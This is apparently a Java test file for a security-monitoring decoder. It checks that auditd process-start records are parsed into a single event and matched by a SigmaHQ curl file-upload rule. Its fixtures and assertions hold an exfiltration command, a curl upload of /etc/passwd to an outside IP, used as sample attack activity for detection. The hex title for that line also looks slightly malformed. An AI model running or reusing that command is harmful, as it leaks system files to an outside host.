package org.citywall.detection.decode;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.citywall.detection.sigma.RuleMatch;
import org.citywall.detection.sigma.RuleSet;
import org.citywall.event.Event;
import org.citywall.event.RawEvent;
import org.junit.jupiter.api.Test;

/**
 * A process start as auditd writes it (SYSCALL, EXECVE, CWD, PATH, PROCTITLE with one serial) becomes
 * one event that names the executable, the command line and the parent, so SigmaHQ's Linux
 * process-creation rules — which name an image and a command line together — match it.
 */
class AuditdProcessStartTest {
    // a shell (pid 3500) started by sshd, then curl uploading /etc/passwd from that shell
    static final List<String> LINES = List.of(
            "node=web-01 type=SYSCALL msg=audit(1764209729.101:24280): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c2f0a000 a1=0 a2=0 a3=0 items=2 ppid=3400 pid=3500 auid=1000 uid=1000 gid=1000 euid=1000 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"exec\"",
            "node=web-01 type=EXECVE msg=audit(1764209729.101:24280): argc=1 a0=\"-bash\"",
            "node=web-01 type=PROCTITLE msg=audit(1764209729.101:24280): proctitle=2D62617368",
            "node=web-01 type=SYSCALL msg=audit(1764209730.243:24287): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c2f0a2b0 a1=55d0c2f0a2c0 a2=0 a3=0 items=2 ppid=3500 pid=3538 auid=1000 uid=1000 gid=1000 euid=1000 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"",
            "node=web-01 type=EXECVE msg=audit(1764209730.243:24287): argc=4 a0=\"curl\" a1=\"-F\" a2=\"f=@/etc/passwd\" a3=\"http://203.0.113.9/up\"",
            "node=web-01 type=CWD msg=audit(1764209730.243:24287): cwd=\"/home/dev\"",
            "node=web-01 type=PATH msg=audit(1764209730.243:24287): item=0 name=\"/usr/bin/curl\" inode=1234 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
            "node=web-01 type=PROCTITLE msg=audit(1764209730.243:24287): proctitle=6375726C002D4600663D402F6574632F706173737764006874747027A2F2F3230332E302E3131332E392F7570");

    private static List<Event> decodeAll(EventDecoder d) {
        List<Event> out = new ArrayList<>();
        for (int i = 0; i < LINES.size(); i++) {
            out.add(d.decode(new RawEvent(LINES.get(i).getBytes(StandardCharsets.UTF_8), Instant.parse("2026-11-27T02:15:31Z").toEpochMilli(),
                    "10.0.0.21:514", "syslog-tcp", "taiyuan"), "t-" + i));
        }
        return out;
    }

    @Test
    void the_execve_record_is_the_process_start_with_image_command_line_and_parent() {
        Event start = decodeAll(new EventDecoder(DecoderConfig.defaults())).get(4);
        assertThat(start.fields())
                .containsEntry("auditd.log.type", "EXECVE")
                .containsEntry("event.category", "process").containsEntry("event.type", "start")
                .containsEntry("process.executable", "/usr/bin/curl")
                .containsEntry("process.command_line", "curl -F f=@/etc/passwd http://203.0.113.9/up")
                .containsEntry("process.pid", 3538L).containsEntry("process.parent.pid", 3500L)
                .containsEntry("process.parent.executable", "/usr/bin/bash")
                .containsEntry("process.parent.command_line", "-bash")
                .containsEntry("user.id", "1000").containsEntry("event.outcome", "success")
                .containsEntry("host.name", "web-01");
    }

    @Test
    void an_execve_record_whose_syscall_record_never_came_keeps_its_arguments() {
        EventDecoder d = new EventDecoder(DecoderConfig.defaults());
        Event alone = d.decode(new RawEvent(LINES.get(4).getBytes(StandardCharsets.UTF_8), 1764209731000L, "10.0.0.21:514",
                "syslog-tcp", "taiyuan"), "t-alone");
        assertThat(alone.fields()).containsEntry("process.command_line", "curl -F f=@/etc/passwd http://203.0.113.9/up")
                .containsEntry("event.type", "start").doesNotContainKey("process.executable");
    }

    @Test
    void a_sigmahq_process_creation_rule_matches_the_start_once() throws Exception {
        Path rule = org.citywall.detection.sigma.SharedData.path("sigma/rules/linux/process_creation/proc_creation_lnx_susp_curl_fileupload.yml");
        org.junit.jupiter.api.Assumptions.assumeTrue(rule != null, "shared data not present");
        RuleSet rules = RuleSet.builder().addPath(rule).build();
        assertThat(rules.rejections()).isEmpty();
        List<String> matched = new ArrayList<>();
        for (Event e : decodeAll(new EventDecoder(DecoderConfig.defaults()))) {
            for (RuleMatch m : rules.match(e)) {
                matched.add(m.ruleId() + " on " + e.getString("auditd.log.type"));
            }
        }
        assertThat(matched).containsExactly("00b90cc1-17ec-402c-96ad-3a8117d7a582 on EXECVE");
    }
}
